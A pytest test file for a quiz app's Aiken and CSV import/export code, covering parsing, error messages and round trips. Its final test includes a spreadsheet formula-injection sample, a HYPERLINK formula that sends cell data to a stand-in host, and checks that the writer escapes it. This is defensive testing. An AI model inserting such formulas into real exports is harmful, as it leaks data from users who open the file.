"""Aiken and CSV interchange: parsing, writing, errors and round trips (no Flask, no database)."""
from __future__ import annotations

from pathlib import Path

import pytest

from studyapp.interchange.aiken import parse_aiken, write_aiken
from studyapp.interchange.bankfile import read_bank_file
from studyapp.interchange.csvfile import parse_csv, write_csv
from studyapp.interchange.errors import InterchangeError
from studyapp.interchange.records import ItemRecord, OptionRecord

DATA = Path(__file__).parent / "data"
BANK = Path(__file__).parent.parent / "questions/banks/harbin-symposium-2023.yaml"


def aiken(name: str) -> str:
    return (DATA / "aiken" / name).read_bytes().decode("utf-8")


def csv_bytes(name: str) -> bytes:
    return (DATA / "csv" / name).read_bytes()


@pytest.fixture(scope="module")
def bank_items() -> list[ItemRecord]:
    return read_bank_file(BANK).items


# --- errors -------------------------------------------------------------------------

def test_interchange_error_str_and_attributes():
    err = InterchangeError("f.txt", 7, "bad thing")
    assert str(err) == "f.txt:7: bad thing"
    assert (err.source, err.line, err.reason, err.column) == ("f.txt", 7, "bad thing", None)
    assert isinstance(err, ValueError)


# --- Aiken: reading -----------------------------------------------------------------

def test_aiken_valid_file():
    items = parse_aiken(aiken("valid.txt"), "valid.txt")
    assert [i.kind for i in items] == ["single_choice", "single_choice", "single_choice", "true_false"]
    first = items[0]
    assert first.stem == "What is the correct answer to this question?"
    assert [o.text for o in first.options] == ["Is it this one?", "Maybe this answer?",
                                               "Possibly this one?", "Must be this one!"]
    assert [o.is_key for o in first.options] == [False, False, False, True]
    # A) style options
    assert [o.text for o in items[1].options][:2] == ["Moodle", "ATutor"] and items[1].options[0].is_key
    # a question over two lines; Unicode survives
    assert items[2].stem == "The symposium took place in September 2023.\nIn which city was it held?"
    assert items[2].options[0].text == "哈尔滨 (Harbin)"
    assert items[2].options[1].text == "“Shenyang” — the ‘other’ capital 🙂"
    # a question straight after an ANSWER line; True/False options make a true_false item
    assert items[3].stem == "Harbin is the capital of Heilongjiang."
    assert items[3].options == [OptionRecord("True", True), OptionRecord("False", False)]
    assert all(i.origin == "imported" and i.explanation == "" and i.passage is None for i in items)
    ids = [i.ext_id for i in items]
    assert len(set(ids)) == 4 and all(i.startswith("aiken-") for i in ids)
    assert [i.ext_id for i in parse_aiken(aiken("valid.txt"))] == ids  # stable ids


def test_aiken_bom_and_crlf_read_the_same():
    assert parse_aiken(aiken("valid-bom-crlf.txt")) == parse_aiken(aiken("valid.txt"))
    assert parse_aiken(aiken("valid.txt").replace("\n", "\r")) == parse_aiken(aiken("valid.txt"))


def test_aiken_same_question_twice_gets_distinct_ids():
    text = "Q?\nA. x\nB. y\nANSWER: A\n\nQ?\nA. x\nB. y\nANSWER: A\n"
    a, b = parse_aiken(text)
    assert a.ext_id != b.ext_id


def test_aiken_empty_file():
    assert parse_aiken("") == [] and parse_aiken("\ufeff\n\n") == []


@pytest.mark.parametrize("name, line, reason", [
    ("no-answer.txt", 6, "no 'ANSWER: X' line"),
    ("bad-letter.txt", 5, "the answer 'E' is not one of the options' letters (A, B, C)"),
    ("one-option.txt", 8, "the question has 1 option(s); Aiken needs at least two"),
    ("option-first.txt", 2, "an option before any question"),
])
def test_aiken_malformed_files(name, line, reason):
    with pytest.raises(InterchangeError) as info:
        parse_aiken(aiken(name), name)
    err = info.value
    assert (err.source, err.line) == (name, line)
    assert reason in err.reason
    assert str(err).startswith(f"{name}:{line}: ")


@pytest.mark.parametrize("text, line, reason", [
    ("Q?\nA. x\nB. y\n", 1, "no 'ANSWER: X' line"),
    ("Q?\n\nA. x\nB. y\nANSWER: A\n", 1, "no options"),
    ("Q?\nA. x\nB. y\nmore text\nANSWER: A\n", 4, "neither an option"),
    ("Q?\nA. x\nA. y\nANSWER: A\n", 3, "option letter A is used twice"),
    ("Q?\nA. x\nB. X\nANSWER: A\n", 3, "same text"),
    ("Q?\nA. x\nB. y\nAnswer: A\n", 4, "ANSWER: X"),
    ("Q?\nA. x\nB. y\nANSWER:\n", 4, "not one of the options' letters"),
    ("ANSWER: A\n", 1, "before any question"),
])
def test_aiken_other_errors(text, line, reason):
    with pytest.raises(InterchangeError) as info:
        parse_aiken(text)
    assert info.value.line == line and reason in info.value.reason
    assert info.value.source == "<aiken>"


# --- Aiken: writing -----------------------------------------------------------------

def test_write_aiken_kinds_and_skips():
    items = [
        ItemRecord("a", "single_choice", "Where? 哈尔滨", options=[OptionRecord("“Here” 🙂"), OptionRecord("There", True)]),
        ItemRecord("b", "true_false", "Yes?", options=[OptionRecord("True", False), OptionRecord("False", True)]),
        ItemRecord("c", "multiple_response", "Which?", options=[OptionRecord("x", True), OptionRecord("y", True),
                                                               OptionRecord("z")]),
        ItemRecord("d", "short_answer", "Who?", answers=[["Xi"]]),
        ItemRecord("e", "cloze", "___ city", answers=[["Harbin"]]),
        ItemRecord("f", "single_choice", "Looks like\nA. an option", options=[OptionRecord("x", True), OptionRecord("y")]),
        ItemRecord("g", "single_choice", "Two\n\nparagraphs", options=[OptionRecord("x", True), OptionRecord("y")]),
        ItemRecord("h", "single_choice", "Long", options=[OptionRecord(f"o{i}", i == 0) for i in range(27)]),
        ItemRecord("i", "single_choice", "Multi-line option", options=[OptionRecord("x\ny", True), OptionRecord("z")]),
    ]
    text, skipped = write_aiken(items)
    assert skipped == ["c", "d", "e", "f", "g", "h", "i"]
    assert text == ("Where? 哈尔滨\nA. “Here” 🙂\nB. There\nANSWER: B\n\n"
                    "Yes?\nA. True\nB. False\nANSWER: B\n")
    back = parse_aiken(text)
    assert [(i.kind, i.stem, i.options) for i in back] == [(i.kind, i.stem, i.options) for i in items[:2]]


def test_aiken_round_trip_of_the_file():
    items = parse_aiken(aiken("valid.txt"))
    text, skipped = write_aiken(items)
    assert skipped == [] and parse_aiken(text) == items


def test_aiken_round_trip_of_symposium_bank(bank_items):
    text, skipped = write_aiken(bank_items)
    kept = [i for i in bank_items if i.ext_id not in skipped]
    assert {i.kind for i in kept} == {"single_choice", "true_false"}
    assert {i.ext_id for i in bank_items if i.kind in {"single_choice", "true_false"}} == {i.ext_id for i in kept}
    assert {i.kind for i in bank_items if i.ext_id in skipped} == {"multiple_response", "short_answer", "cloze"}
    back = parse_aiken(text, "bank.txt")
    assert [(i.kind, i.stem, i.options) for i in back] == [(i.kind, i.stem, i.options) for i in kept]
    assert any("哈尔滨" in o.text or "Harbin" in o.text for i in back for o in i.options)


# --- CSV: reading -------------------------------------------------------------------

EXPECTED = [
    ItemRecord("sc-1", "single_choice", "In which city?", "It was “Harbin” 🙂",
               [OptionRecord("Tianjin"), OptionRecord("哈尔滨", True), OptionRecord("Shenyang")],
               passage=1, status="published", origin="authored"),
    ItemRecord("mr-1", "multiple_response", "Which are provinces?\nPick all.", "",
               [OptionRecord("Heilongjiang", True), OptionRecord("Jilin", True), OptionRecord("Harbin"),
                OptionRecord("a | b")], status="draft", origin="imported"),
    ItemRecord("tf-1", "true_false", "Harbin is in Jilin.", "",
               [OptionRecord("True"), OptionRecord("False", True)], origin="imported"),
    ItemRecord("tf-2", "true_false", "Harbin is in Heilongjiang.", "",
               [OptionRecord("True", True), OptionRecord("False")], origin="imported"),
    ItemRecord("sa-1", "short_answer", "Who chaired?", answers=[["Xi Jinping", "President Xi"]], passage=2,
               origin="imported"),
    ItemRecord("cz-1", "cloze", "___ is the capital of ___.", answers=[["Harbin", "哈尔滨"], ["Heilongjiang"]],
               status="retired", origin="edited"),
]


def test_csv_valid_file():
    assert parse_csv(csv_bytes("valid.csv"), "valid.csv") == EXPECTED


def test_csv_semicolons_bom_crlf():
    data = csv_bytes("valid-semicolon-bom-crlf.csv")
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data and b";" in data
    assert parse_csv(data) == EXPECTED


def test_csv_minimal_header_and_column_order():
    data = "kind,id,stem,answers\nshort_answer,q1,Who?,Xi\n".encode()
    assert parse_csv(data) == [ItemRecord("q1", "short_answer", "Who?", answers=[["Xi"]], origin="imported")]


def test_csv_escapes():
    data = 'id,kind,stem,answers\nq,short_answer,Path?,C:\\x | a\\|b | back\\\\| c\n'.encode()
    assert parse_csv(data)[0].answers == [["C:\\x", "a|b", "back\\", "c"]]


@pytest.mark.parametrize("name, row, column, reason", [
    ("unknown-kind.csv", 3, "kind", "unknown kind 'essay'"),
    ("no-key.csv", 3, "keys", "no key"),
    ("key-out-of-range.csv", 2, "keys", "key 4 is out of range (the item has 3 options)"),
    ("missing-stem.csv", 3, "stem", "the stem is missing"),
])
def test_csv_malformed_files(name, row, column, reason):
    with pytest.raises(InterchangeError) as info:
        parse_csv(csv_bytes(name), name)
    err = info.value
    assert (err.source, err.line, err.column) == (name, row, column)
    assert reason in err.reason and f"column '{column}'" in err.reason
    assert str(err).startswith(f"{name}:{row}: column '{column}': ")


H = "id,kind,stem,options,keys,answers,explanation,passage\n"


@pytest.mark.parametrize("body, row, column, reason", [
    ('a,single_choice,"two\nlines",x | y,1,,,\nb,single_choice,Q,x | y,3,,,\n', 3, "keys", "out of range"),
    ("a,single_choice,Q,x | y,\"1,2\",,,\n", 2, "keys", "exactly one key"),
    ("a,single_choice,Q,x,1,,,\n", 2, "options", "at least 2 options"),
    ("a,multiple_response,Q,x | y,1,,,\n", 2, "options", "at least 3 options"),
    ("a,single_choice,Q,x | | y,1,,,\n", 2, "options", "empty option"),
    ("a,single_choice,Q,x | X,1,,,\n", 2, "options", "same text"),
    ("a,single_choice,Q,,1,,,\n", 2, "options", "needs options"),
    ("a,single_choice,Q,x | y,one,,,\n", 2, "keys", "not an option number"),
    ("a,single_choice,Q,x | y,1,z,,\n", 2, "answers", "takes no answers"),
    ("a,true_false,Q,,maybe,,,\n", 2, "keys", "not an option number"),
    ("a,true_false,Q,Yes | No,1,,,\n", 2, "options", "True | False"),
    ("a,short_answer,Q,x | y,,z,,\n", 2, "options", "takes no options"),
    ("a,short_answer,Q,,1,z,,\n", 2, "keys", "takes no keys"),
    ("a,short_answer,Q,,,,,\n", 2, "answers", "needs its accepted answers"),
    ("a,short_answer,Q,,,x || y,,\n", 2, "answers", "one gap"),
    ("a,cloze,Q ___ ___,,,x,,\n", 2, "answers", "2 gap(s) but the answers give 1"),
    ("a,cloze,Q,,,x,,\n", 2, "stem", "needs a gap"),
    ("a,cloze,Q ___,,,x | ,,\n", 2, "answers", "empty accepted answer of gap 1"),
    ("a,short_answer,Q,,,x,,zero\n", 2, "passage", "not a passage number"),
    ("A b,short_answer,Q,,,x,,\n", 2, "id", "not allowed"),
    (",short_answer,Q,,,x,,\n", 2, "id", "missing"),
    ("a,short_answer,Q,,,x,,\n\na,short_answer,Q,,,x,,\n", 4, "id", "also the id of row 2"),
])
def test_csv_row_errors(body, row, column, reason):
    with pytest.raises(InterchangeError) as info:
        parse_csv((H + body).encode())
    assert (info.value.line, info.value.column) == (row, column)
    assert reason in info.value.reason


@pytest.mark.parametrize("data, line, reason", [
    (b"", 1, "empty"),
    (b"id,kind,stem,colour\n", 1, "unknown column 'colour'"),
    (b"id,kind\n", 1, "lacks the column(s) stem"),
    (b"id,kind,stem,stem\n", 1, "appears twice"),
    (b"id,kind,stem\na,short_answer,Q,extra\n", 2, "4 cells but the header has 3"),
    (b"id,kind,stem,answers\na,short_answer,Q,x\nb,short_answer,\xff,y\n", 3, "not UTF-8"),
])
def test_csv_file_errors(data, line, reason):
    with pytest.raises(InterchangeError) as info:
        parse_csv(data)
    assert info.value.line == line and reason in info.value.reason


def test_csv_is_all_or_nothing():
    # the first two rows are fine; the third fails, and nothing is returned
    with pytest.raises(InterchangeError):
        parse_csv((H + "a,short_answer,Q,,,x,,\nb,short_answer,Q,,,y,,\nc,essay,Q,,,,,\n").encode())


# --- CSV: writing and round trips ---------------------------------------------------

def test_write_csv_shape():
    data = write_csv(EXPECTED)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.split("\r\n", 1)[0] == "id,kind,stem,options,keys,answers,explanation,passage,status,origin"
    assert "哈尔滨" in text and "“Harbin” 🙂" in text and "a \\| b" in text
    assert parse_csv(data) == EXPECTED


def test_csv_round_trip_awkward_text():
    items = [
        ItemRecord("x1", "single_choice", 'Quote "this", then; semicolon', "Line 1\nLine 2 — ‘ok’ 🎉",
                   [OptionRecord("a|b", True), OptionRecord("back\\slash"), OptionRecord("a||b\\|")]),
        ItemRecord("x2", "cloze", "=___ and ___", "", answers=[["|", "\\"], ["哈尔滨", "Ha'erbin"]], passage=3),
    ]
    assert parse_csv(write_csv(items)) == items


def test_csv_round_trip_of_symposium_bank(bank_items):
    assert {i.kind for i in bank_items} == {"single_choice", "multiple_response", "true_false",
                                            "short_answer", "cloze"}
    data = write_csv(bank_items)
    assert parse_csv(data, "bank.csv") == bank_items
    # a spreadsheet saving with semicolons and CRLF reads the same
    import csv
    import io
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    assert parse_csv(out.getvalue().encode("utf-8"), "bank.csv") == bank_items


def test_csv_cells_that_look_like_formulas_are_guarded_and_read_back():
    """A stem, option or answer starting with = + - @ is written with a leading ' (a spreadsheet shows
    it as text, runs nothing) and reads back as it was; a ' before anything else is kept."""
    items = [
        ItemRecord("f1", "single_choice", '=HYPERLINK("http://x.example/?a="&A1,"click")', "-1 is wrong.",
                   options=[OptionRecord("@SUM(1+1)", True), OptionRecord("+1"), OptionRecord("-2")]),
        ItemRecord("f2", "short_answer", "'quoted' stays", "E.", answers=[["=x", "'y"]]),
    ]
    data = write_csv(items)
    rows = data.decode("utf-8-sig").split("\r\n")
    assert rows[1].startswith("""f1,single_choice,"'=HYPERLINK(""") and ",'@SUM(1+1) | +1 | -2," in rows[1]
    assert ",'-1 is wrong.," in rows[1]
    assert rows[2].startswith("f2,short_answer,'quoted' stays,,,'=x | 'y,")
    assert parse_csv(data) == [
        ItemRecord("f1", "single_choice", '=HYPERLINK("http://x.example/?a="&A1,"click")', "-1 is wrong.",
                   options=[OptionRecord("@SUM(1+1)", True), OptionRecord("+1"), OptionRecord("-2")]),
        ItemRecord("f2", "short_answer", "'quoted' stays", "E.", answers=[["=x", "'y"]])]
